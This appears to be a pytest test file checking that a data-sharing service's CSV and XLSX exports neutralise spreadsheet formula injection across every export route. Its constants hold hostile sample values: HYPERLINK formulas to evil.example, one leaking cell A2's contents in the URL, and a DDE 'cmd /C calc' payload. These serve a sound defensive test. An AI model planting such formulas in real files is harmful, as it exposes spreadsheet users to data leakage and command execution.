"""Every export, in both formats, with hostile values in every field an operator or the data
controls: no cell a spreadsheet would evaluate, hostile strings kept as text, numbers as
numbers, names beside ids."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from decimal import Decimal
from typing import Any
from urllib.parse import quote

import openpyxl
import pyarrow as pa
import pytest
from conftest import GRANTS, World

LINK = '=HYPERLINK("http://evil.example","点我")'
READS_A2 = '+HYPERLINK("http://evil.example/?"&A2,"x")'
# One of each trigger OWASP names, each a live formula if a spreadsheet evaluated it.
HOSTILE = (LINK, "@SUM(A1)", READS_A2, "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NAME = '=HYPERLINK("http://evil.example","某公司")'
PURPOSE = '@SUM(1+1)*cmd|" /C calc"!A0'
TITLE = "-1+1 分组数据"
REASON = '=HYPERLINK("http://evil.example","拒绝")'
NOTE = '=HYPERLINK("http://evil.example","说明")'
SMALL_OUTPUT = "-小组"  # output names allow letters, digits and _ - . only

# Code that starts like a formula and still runs: a bare expression statement.
CODE = f'''+1
emit("分组", table("敏感分组").group_by("类别").agg(人数=count(), 平均收入=mean("月收入")).collect())
emit("{SMALL_OUTPUT}", table("population").filter(col("district") == "北山区")
     .group_by("hukou_type", "gender").agg(n=count()).collect())
emit("说明", params["note"])
'''


def hostile_table() -> Any:
    keys = [k for k in HOSTILE for _ in range(30)]
    return pa.table({"类别": keys, "月收入": [3000 + 37 * i for i in range(len(keys))]})


class Exports:
    """One instance with hostile values everywhere, and the paths of its exports."""

    def __init__(self, w: World) -> None:
        self.w = w
        assert (
            w.ingest(
                "敏感分组",
                hostile_table(),
                "L2",
                {
                    "类别": {"role": "attribute"},
                    "月收入": {"role": "sensitive", "lower": 0, "upper": 100000},
                },
                TITLE,
            ).status_code
            == 201
        )
        self.op, key = w.register_operator(NAME, "@SUM(A1)")
        grants = {**GRANTS, "敏感分组": {"类别": ["group_by"], "月收入": ["aggregate"]}}
        self.cid = w.activate(self.op, key, grants, purpose=PURPOSE)
        refused = w.client.post(
            "/v1/contracts",
            headers=w.h(self.op),
            json={
                "datasets": GRANTS,
                "purpose": LINK,
                "purpose_class": "public_interest",
                "valid_from": "2026-01-01T00:00:00Z",
                "valid_to": "2030-01-01T00:00:00Z",
            },
        ).json()
        assert (
            w.client.post(
                f"/v1/contracts/{refused['id']}/refuse",
                headers=w.h(w.provider),
                json={"reason": REASON},
            ).status_code
            == 200
        )

        def run(code: str, params: dict[str, Any]) -> Any:
            return w.client.post(
                "/v1/jobs?wait=true",
                headers=w.h(self.op),
                json={"contract_id": self.cid, "code": code, "params": params},
            )

        self.job = run(CODE, {"note": NOTE, LINK: "@SUM(A1)"}).json()
        assert self.job["status"] == "succeeded", self.job["error"]
        rejected = run(READS_A2, {"=x": LINK})
        assert rejected.json()["code"] == "code_rejected"
        self.period = self.job["finished_at"][:7]

    def paths(self) -> dict[str, tuple[str, dict[str, Any]]]:
        """Every export: route template → (a path to it, who may fetch it)."""

        def out(name: str) -> str:
            return f"/v1/jobs/{self.job['id']}/outputs/{quote(name, safe='')}"

        w, p = self.w, self.period
        return {
            "/v1/jobs/{job_id}/outputs/{name}": (out("分组"), self.op),
            "/v1/jobs/{job_id}/outputs/{name}#suppressed": (out(SMALL_OUTPUT), self.op),
            "/v1/jobs/{job_id}/outputs/{name}#scalar": (out("说明"), self.op),
            "/v1/jobs": ("/v1/jobs", w.regulator),
            "/v1/jobs#operator": ("/v1/jobs", self.op),
            "/v1/contracts": ("/v1/contracts", w.regulator),
            "/v1/releases": (f"/v1/releases?period={p}", w.regulator),
            "/v1/reports/usage": (f"/v1/reports/usage?period={p}", w.regulator),
            "/v1/reports/revenue": (f"/v1/reports/revenue?period={p}", w.regulator),
            "/v1/bills": (f"/v1/bills?period={p}", w.regulator),
            "/v1/bills#operator": (f"/v1/bills?period={p}", self.op),
            "/v1/statistics/datasets": (f"/v1/statistics/datasets?month={p}", w.regulator),
            "/v1/statistics/departments": (f"/v1/statistics/departments?month={p}", w.bureau),
            "/v1/datasets/{name}/dummy": (
                f"/v1/datasets/{quote('敏感分组', safe='')}/dummy?rows=20",
                self.op,
            ),
        }

    def get(self, key: str, fmt: str) -> Any:
        path, who = self.paths()[key]
        joiner = "&" if "?" in path else "?"
        r = self.w.client.get(f"{path}{joiner}format={fmt}", headers=self.w.h(who))
        assert r.status_code == 200, (key, r.text)
        return r


@pytest.fixture
def exports(local_world: World) -> Exports:
    return Exports(local_world)


def export_routes(w: World) -> set[str]:
    """Every GET route that takes a `format`, from the service's own OpenAPI document: what
    the walk below must cover."""
    paths = w.client.get("/openapi.json").json()["paths"]
    return {
        path
        for path, ops in paths.items()
        if "get" in ops
        and any(
            p["name"] == "format" and p["in"] == "query" for p in ops["get"].get("parameters", [])
        )
    }


def csv_cells(response: Any) -> list[list[str]]:
    assert response.headers["content-type"].startswith("text/csv")
    assert response.content.startswith("\ufeff".encode())  # Excel reads UTF-8 by the BOM
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def sheet_of(response: Any) -> Any:
    assert response.headers["content-type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    with zipfile.ZipFile(io.BytesIO(response.content)) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # not one formula in the file
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def cells(sheet: Any) -> Iterator[Any]:
    for row in sheet.iter_rows():
        yield from row


def is_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


def test_the_walk_covers_every_export_route(exports: Exports) -> None:
    walked = {key.split("#")[0] for key in exports.paths()}
    assert walked == export_routes(exports.w)


@pytest.mark.parametrize(
    "key",
    [
        "/v1/jobs/{job_id}/outputs/{name}",
        "/v1/jobs/{job_id}/outputs/{name}#suppressed",
        "/v1/jobs/{job_id}/outputs/{name}#scalar",
        "/v1/jobs",
        "/v1/jobs#operator",
        "/v1/contracts",
        "/v1/releases",
        "/v1/reports/usage",
        "/v1/reports/revenue",
        "/v1/bills",
        "/v1/bills#operator",
        "/v1/statistics/datasets",
        "/v1/statistics/departments",
        "/v1/datasets/{name}/dummy",
    ],
)
def test_no_export_holds_a_cell_a_spreadsheet_would_evaluate(exports: Exports, key: str) -> None:
    rows = csv_cells(exports.get(key, "csv"))
    assert len(rows) >= 2
    for row in rows:
        for cell in row:
            # Only a genuine negative number may start with "-"; text starts with a quote.
            assert not cell.startswith(TRIGGERS) or cell.startswith("-") and is_number(cell), (
                key,
                cell,
            )
    sheet = sheet_of(exports.get(key, "xlsx"))
    assert sheet.freeze_panes == "A2" and sheet.max_row == len(rows)
    for cell in cells(sheet):
        assert cell.data_type in ("s", "n", "d"), (key, cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert cell.data_type == "s"
            # XML reads a carriage return back as a line feed.
            assert cell.quotePrefix == cell.value.startswith((*TRIGGERS, "\n")), cell.value


def test_hostile_group_keys_stay_text_and_counts_stay_numbers(exports: Exports) -> None:
    key = "/v1/jobs/{job_id}/outputs/{name}"
    rows = csv_cells(exports.get(key, "csv"))
    assert rows[0] == ["类别", "人数", "平均收入"]
    assert {r[0] for r in rows[1:]} == {"'" + h for h in HOSTILE}
    assert {r[1] for r in rows[1:]} == {"30"}
    sheet = sheet_of(exports.get(key, "xlsx"))
    assert [c.value for c in sheet[1]] == ["类别", "人数", "平均收入"]
    body = list(sheet.iter_rows(min_row=2))
    # The exact text, typed as text (XML reads a carriage return back as a line feed).
    assert {r[0].value for r in body} == {h.replace("\r", "\n") for h in HOSTILE}
    assert all(r[0].data_type == "s" and r[0].quotePrefix for r in body)
    assert all(r[1].value == 30 and r[1].data_type == "n" for r in body)
    assert all(isinstance(r[2].value, float) for r in body)


def test_suppressed_cells_are_named_in_the_workbook_and_empty_in_csv(exports: Exports) -> None:
    body = exports.w.client.get(
        exports.paths()["/v1/jobs/{job_id}/outputs/{name}#suppressed"][0],
        headers=exports.w.h(exports.op),
    ).json()
    assert body["suppressed"]
    rows = csv_cells(exports.get("/v1/jobs/{job_id}/outputs/{name}#suppressed", "csv"))
    sheet = sheet_of(exports.get("/v1/jobs/{job_id}/outputs/{name}#suppressed", "xlsx"))
    for i, column in body["suppressed"]:
        j = [c["name"] for c in body["columns"]].index(column)
        assert rows[i + 1][j] == ""
        assert sheet.cell(row=i + 2, column=j + 1).value == "（已抑制）"
    shown = [r[2] for r in sheet.iter_rows(min_row=2) if r[2].value != "（已抑制）"]
    assert shown and all(c.data_type == "n" and isinstance(c.value, int) for c in shown)


def test_an_operators_scalar_text_is_text(exports: Exports) -> None:
    key = "/v1/jobs/{job_id}/outputs/{name}#scalar"
    assert csv_cells(exports.get(key, "csv")) == [["value"], ["'" + NOTE]]
    sheet = sheet_of(exports.get(key, "xlsx"))
    assert sheet["A1"].value == "值" and sheet["A2"].value == NOTE
    assert sheet["A2"].data_type == "s"


def test_the_regulators_job_listing_shows_code_and_params_as_text(exports: Exports) -> None:
    rows = csv_cells(exports.get("/v1/jobs", "csv"))
    header, body = rows[0], rows[1:]
    code = {r[header.index("code")] for r in body}
    assert "'" + READS_A2 in code and "'" + CODE in code
    assert all(r[header.index("operator_name")] == "'" + NAME for r in body)
    sheet = sheet_of(exports.get("/v1/jobs", "xlsx"))
    titles = [c.value for c in sheet[1]]
    assert titles[:3] == ["作业编号", "合同编号", "合同版本"]
    assert "提交时间 (北京时间 UTC+8)" in titles and "结束时间 (北京时间 UTC+8)" in titles
    by_title = [{t: c for t, c in zip(titles, row)} for row in sheet.iter_rows(min_row=2)]
    codes = {r["代码"].value: r["代码"] for r in by_title}
    assert codes[READS_A2].data_type == "s" and codes[CODE].data_type == "s"
    assert all(r["运营单位"].value == NAME for r in by_title)
    done = next(r for r in by_title if r["状态"].value == "succeeded")
    assert done["提交时间 (北京时间 UTC+8)"].is_date and done["扫描行数"].data_type == "n"
    assert done["收费（元）"].number_format == "0.00" and done["收费（元）"].data_type == "n"
    rejected = next(r for r in by_title if r["状态"].value == "rejected")
    assert (
        rejected["提交时间 (北京时间 UTC+8)"].value == rejected["结束时间 (北京时间 UTC+8)"].value
    )


def test_contracts_are_flat_with_names_and_hostile_terms_as_text(exports: Exports) -> None:
    rows = csv_cells(exports.get("/v1/contracts", "csv"))
    header = rows[0]
    mine = [
        dict(zip(header, r)) for r in rows[1:] if r[header.index("operator_id")] == exports.op["id"]
    ]
    active = next(c for c in mine if c["status"] == "active")
    refused = next(c for c in mine if c["status"] != "active")
    assert active["purpose"] == "'" + PURPOSE and active["operator_name"] == "'" + NAME
    assert active["datasets"].startswith("population（")
    assert "敏感分组（-1+1 分组数据）" in active["datasets"]
    assert active["departments"] == "市公安局" and active["approved_by"] == "市公安局"
    assert "敏感分组.类别: group_by" in active["columns"]
    assert active["bureau_signed_at"].endswith("Z") and active["operator_signed_by"] == "'" + NAME
    assert refused["purpose"] == "'" + LINK and refused["status_reason"] == "'" + REASON
    sheet = sheet_of(exports.get("/v1/contracts", "xlsx"))
    titles = [c.value for c in sheet[1]]
    assert "用途" in titles and "数据局签署时间 (北京时间 UTC+8)" in titles
    texts = {c.value for c in cells(sheet) if c.data_type == "s"}
    assert {PURPOSE, NAME, LINK, REASON} <= texts


def test_reports_name_operators_datasets_and_departments(exports: Exports) -> None:
    for key in ("/v1/releases", "/v1/reports/usage", "/v1/reports/revenue", "/v1/bills"):
        sheet = sheet_of(exports.get(key, "xlsx"))
        texts = {c.value for c in cells(sheet) if c.data_type == "s"}
        assert NAME in texts, key
        if key != "/v1/reports/usage":
            assert TITLE in texts and "市公安局" in texts, key
    statistics = sheet_of(exports.get("/v1/statistics/datasets", "xlsx"))
    assert {TITLE, "市公安局"} <= {c.value for c in cells(statistics) if c.data_type == "s"}
    revenue = exports.get("/v1/reports/revenue", "csv")
    rows = csv_cells(revenue)
    assert rows[0][:4] == ["period", "section", "key", "name"]
    total = dict(zip(rows[0], rows[1]))
    assert total["section"] == "total" and Decimal(total["amount"]) > 0
    assert revenue.headers["content-disposition"].endswith(f"revenue-{exports.period}.csv")
    bill = sheet_of(exports.get("/v1/bills", "xlsx"))
    titles = [c.value for c in bill[1]]
    money = [row[titles.index("金额（元）")] for row in bill.iter_rows(min_row=2)]
    assert all(c.data_type == "n" and c.number_format == "0.00" for c in money)
    assert bill.cell(row=bill.max_row, column=1).value == "total"


def test_an_unknown_format_is_refused_naming_the_formats(exports: Exports) -> None:
    for key in ("/v1/jobs", "/v1/jobs/{job_id}/outputs/{name}", "/v1/reports/revenue"):
        path, who = exports.paths()[key]
        joiner = "&" if "?" in path else "?"
        r = exports.w.client.get(f"{path}{joiner}format=xls", headers=exports.w.h(who))
        body = r.json()
        assert r.status_code == 400 and body["ok"] is False and body["code"] == "invalid_request"
        assert "'csv'" in body["error"] and "'xlsx'" in body["error"]
